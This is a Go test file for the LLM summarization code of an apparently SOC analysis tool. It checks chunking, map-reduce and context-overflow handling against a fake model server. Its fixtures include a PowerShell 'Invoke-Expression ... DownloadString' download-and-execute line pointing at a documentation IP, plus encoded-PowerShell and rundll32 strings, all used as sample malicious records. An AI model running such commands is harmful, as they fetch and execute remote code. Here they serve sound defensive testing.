package llm

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/spotter-soc/spotter/internal/config"
	"github.com/spotter-soc/spotter/internal/llm/fakellm"
	"github.com/spotter-soc/spotter/internal/skill"
)

// summaryModel is a model on a fake server that answers every call with
// a short summary naming the call.
func summaryModel(t *testing.T, contextTokens, maxTokens int) (*Model, *fakellm.Server) {
	t.Helper()
	srv := fakellm.New("")
	srv.Respond = func(n int, r fakellm.Request) fakellm.Step { return fakellm.Step{Text: fmt.Sprintf("summary %d", n)} }
	t.Cleanup(srv.Close)
	var logs bytes.Buffer
	m, err := NewModel("sum", config.LLMProvider{Kind: config.LLMKindOpenAICompatible, BaseURL: srv.URL + "/v1", Model: "m",
		ContextSize: contextTokens, MaxTokens: maxTokens}, newGateway(t, &logs))
	if err != nil {
		t.Fatal(err)
	}
	return m, srv
}

func records(n int, level skill.Level, text string) []Record {
	out := make([]Record, n)
	for i := range out {
		out[i] = Record{Label: fmt.Sprintf("%s-%03d.example", level, i), Kind: "domain", Level: level, Score: i % 100, Text: text}
	}
	return out
}

func TestSummarizeOneCallWhenItFits(t *testing.T) {
	m, srv := summaryModel(t, 8192, 512)
	recs := append(records(5, skill.Malicious, "VirusTotal 40/90"), records(45, skill.Benign, "clean")...)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	if s.Calls != 1 || s.Chunks != 0 || s.Collapsed != 0 || len(srv.Requests()) != 1 {
		t.Fatalf("%+v after %d requests", s, len(srv.Requests()))
	}
	for _, r := range recs {
		if !strings.Contains(srv.Requests()[0].Raw, r.Label) {
			t.Errorf("%s missing from the prompt", r.Label)
		}
	}
}

func TestSummarizeCollapsesBenignAndUnknownFirst(t *testing.T) {
	m, srv := summaryModel(t, 4096, 256)
	recs := append(records(300, skill.Benign, "no engine flagged it; first seen 2019; registrar Example Inc."), records(4, skill.Malicious, "ThreatFox: botnet C2")...)
	recs = append(recs, records(100, skill.Unknown, "not in any feed")...)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	if s.Calls != 1 || s.Collapsed != 400 {
		t.Fatalf("%+v", s)
	}
	raw := srv.Requests()[0].Raw
	for _, r := range recs[300:304] {
		if !strings.Contains(raw, r.Label) || !strings.Contains(raw, "botnet C2") {
			t.Errorf("malicious %s must be listed with its evidence", r.Label)
		}
	}
	if !strings.Contains(raw, "300 benign domain") || !strings.Contains(raw, "100 unknown domain") {
		t.Errorf("the quiet records must be counted: %.400s", raw)
	}
}

func TestSummarizeMapReduceNeverCutsOff(t *testing.T) {
	m, srv := summaryModel(t, 2048, 128)
	long := strings.Repeat("beacon to 198.51.100.23 every 60 s; ", 12)
	recs := records(120, skill.Malicious, long)
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Context: map[string]string{"title": "Beaconing"}, Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	if s.Chunks < 2 || s.Calls != len(reqs) || s.Calls <= s.Chunks || s.Text != fmt.Sprintf("summary %d", len(reqs)-1) {
		t.Fatalf("%+v after %d requests", s, len(reqs))
	}
	var mapped strings.Builder
	for _, r := range reqs[:s.Chunks] {
		if est := len(r.Raw) / 4; est > 2048 {
			t.Errorf("a map request of about %d tokens exceeds the 2048-token context", est)
		}
		mapped.WriteString(r.Raw)
	}
	for _, r := range recs {
		if !strings.Contains(mapped.String(), r.Label) {
			t.Errorf("%s was cut off", r.Label)
		}
	}
	if last := reqs[len(reqs)-1].Raw; !strings.Contains(last, "summary of part") && !strings.Contains(last, "merged summary") {
		t.Errorf("the last call must reduce the partial summaries: %.300s", last)
	}
}

func TestSummarizeSplitsOneHugeRecord(t *testing.T) {
	m, srv := summaryModel(t, 2048, 128)
	huge := Record{Label: "decoded script", Level: skill.Suspicious, Text: strings.Repeat("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a'); ", 300)}
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: []Record{huge}})
	if err != nil {
		t.Fatal(err)
	}
	if s.Chunks < 2 {
		t.Fatalf("%+v", s)
	}
	var total int
	for _, r := range srv.Requests()[:s.Chunks] {
		total += strings.Count(r.Raw, "DownloadString")
	}
	if total != 300 {
		t.Errorf("%d of 300 statements reached the model", total)
	}
}

func TestSummarizeRefusesAContextTooSmall(t *testing.T) {
	m, _ := summaryModel(t, 900, 512)
	_, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: records(3, skill.Malicious, "x")})
	if err == nil || !strings.Contains(err.Error(), "context_tokens 900") {
		t.Fatalf("err %v", err)
	}
}

// shownTokens estimates the tokens a model reads of a recorded chat
// request: its messages' contents, decoded from the request body.
func shownTokens(t *testing.T, r fakellm.Request) int {
	t.Helper()
	msgs, _ := r.Body["messages"].([]any)
	n := 0
	for _, m := range msgs {
		c, _ := m.(map[string]any)["content"].(string)
		n += len(c)
	}
	if n == 0 {
		t.Fatalf("no message content in %.200s", r.Raw)
	}
	return (n + 3) / 4
}

// TestSummarizeChunksFitWhatIsSent: chunks are sized by the records as
// sent (JSON, where <, > and & take six bytes and backslashes two), and a
// record whose label alone exceeds the window is split too, its label kept
// whole in the text.
func TestSummarizeChunksFitWhatIsSent(t *testing.T) {
	const contextTokens, maxTokens = 2048, 128
	cmd := `cmd.exe /c "C:\Windows\System32\rundll32.exe" <script>a&&b</script> `
	longLabel := "powershell.exe -enc " + strings.Repeat(`JAB<&>\"`, 2500) + " END-OF-LABEL"
	cases := map[string][]Record{
		"escaped text":    records(40, skill.Malicious, cmd+strings.Repeat(`<&>"\`, 60)),
		"one huge label":  {{Label: longLabel, Kind: "process", Level: skill.Suspicious, Text: "spawned by winword.exe"}},
		"long labels too": append(records(3, skill.Malicious, "ThreatFox: botnet C2"), Record{Label: longLabel, Level: skill.Malicious, Kind: strings.Repeat("k<", 500)}),
	}
	for name, recs := range cases {
		t.Run(name, func(t *testing.T) {
			m, srv := summaryModel(t, contextTokens, maxTokens)
			s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
			if err != nil {
				t.Fatal(err)
			}
			var sent strings.Builder
			for i, r := range srv.Requests() {
				if got := shownTokens(t, r); got > contextTokens-maxTokens {
					t.Errorf("call %d of %+v: about %d tokens exceed the window of %d", i, s, got, contextTokens-maxTokens)
				}
				sent.WriteString(r.Raw)
			}
			if strings.Contains(recs[len(recs)-1].Label, "END-OF-LABEL") && !strings.Contains(sent.String(), "END-OF-LABEL") {
				t.Error("the end of the long label never reached the model")
			}
		})
	}
}

// FuzzSplitLong: however long and whatever its bytes, a record is split
// into parts that each fit the window, and their texts together hold all
// of it (its label and kind included when they had to move).
func FuzzSplitLong(f *testing.F) {
	f.Add("decoded script", "process", strings.Repeat(`iex "<a&b>" \ `, 400), 256)
	f.Add(strings.Repeat("L<", 3000), strings.Repeat("k", 300), "t", 300)
	f.Add("x", "", strings.Repeat("\xff\u2028\x01", 700), 1000)
	f.Fuzz(func(t *testing.T, label, kind, text string, window int) {
		if window < 256 || window > 1<<16 {
			return
		}
		r := Record{Label: label, Kind: kind, Level: skill.Suspicious, Text: text}
		parts := splitLong([]Record{r}, window)
		var all strings.Builder
		for i, p := range parts {
			if c := recordCost(p); c > window {
				t.Fatalf("part %d of %d costs %d tokens; the window is %d", i+1, len(parts), c, window)
			}
			all.WriteString(p.Text)
		}
		got := all.String()
		if !strings.HasSuffix(got, text) || (len(parts) > 1 || got != text) && recordCost(r) <= window/2 {
			t.Fatalf("the text was not kept whole: %d parts", len(parts))
		}
		if len(label) > maxLabelBytes && recordCost(r) > window/2 && !strings.Contains(got, label) {
			t.Fatal("a long label was dropped")
		}
	})
}

// TestSummarizeRechunksWhenTheProviderCountsMore: hashes take about one
// token per two bytes, not four; when the provider refuses a prompt as over
// its context, the records are chunked again for a smaller window, and
// still every record reaches the model.
func TestSummarizeRechunksWhenTheProviderCountsMore(t *testing.T) {
	const contextTokens = 4096
	srv := fakellm.New("")
	t.Cleanup(srv.Close)
	tokens := func(r fakellm.Request) int { // the provider's own count: two bytes a token
		msgs, _ := r.Body["messages"].([]any)
		n := 0
		for _, m := range msgs {
			c, _ := m.(map[string]any)["content"].(string)
			n += len(c)
		}
		return n / 2
	}
	srv.Respond = func(n int, r fakellm.Request) fakellm.Step {
		if got := tokens(r); got+256 > contextTokens {
			return fakellm.Step{Status: 400, ErrorType: "invalid_request_error",
				ErrorMessage: fmt.Sprintf("This model's maximum context length is %d tokens. However, your messages resulted in %d tokens.", contextTokens, got)}
		}
		return fakellm.Step{Text: fmt.Sprintf("summary %d", n)}
	}
	var logs bytes.Buffer
	m, err := NewModel("sum", config.LLMProvider{Kind: config.LLMKindOpenAICompatible, BaseURL: srv.URL + "/v1", Model: "m",
		ContextSize: contextTokens, MaxTokens: 256}, newGateway(t, &logs))
	if err != nil {
		t.Fatal(err)
	}
	recs := make([]Record, 60)
	for i := range recs {
		recs[i] = Record{Label: fmt.Sprintf("%064x", i*7919+1), Kind: "hash", Level: skill.Malicious, Text: fmt.Sprintf("sha256 %064x seen on host-%d", i*104729+3, i)}
	}
	s, err := m.Summarize(context.Background(), nil, SummaryRequest{Purpose: "test", Records: recs})
	if err != nil {
		t.Fatal(err)
	}
	var accepted strings.Builder
	for _, r := range srv.Requests() {
		if tokens(r)+256 <= contextTokens {
			accepted.WriteString(r.Raw)
		}
	}
	for _, r := range recs {
		if !strings.Contains(accepted.String(), r.Label) {
			t.Errorf("%s never reached the model in an accepted call (%+v)", r.Label, s)
		}
	}
	if s.Chunks < 2 || s.Text == "" {
		t.Errorf("%+v", s)
	}
}

func TestContextExceeded(t *testing.T) {
	cases := []struct {
		err  error
		want bool
	}{
		{&Error{Status: 400, Code: "context_length_exceeded", Msg: "This model's maximum context length is 8192 tokens."}, true},
		{&Error{Status: 400, Code: "invalid_request_error", Msg: "prompt is too long: 210000 tokens > 200000 maximum"}, true},
		{fmt.Errorf("wrapped: %w", &Error{Status: 400, Msg: "the request exceeds the available context size, try increasing it"}), true},
		{&Error{Status: 413, Msg: "Too many tokens in the request"}, true},
		{&Error{Status: 400, Code: "invalid_request_error", Msg: "temperature: expected at most 1"}, false},
		{&Error{Status: 429, Msg: "rate limited: too many tokens per minute"}, false},
		{&Error{Msg: "context length exceeded"}, false},
		{fmt.Errorf("context length exceeded"), false},
		{nil, false},
	}
	for _, c := range cases {
		if got := contextExceeded(c.err); got != c.want {
			t.Errorf("%v: got %v", c.err, got)
		}
	}
}
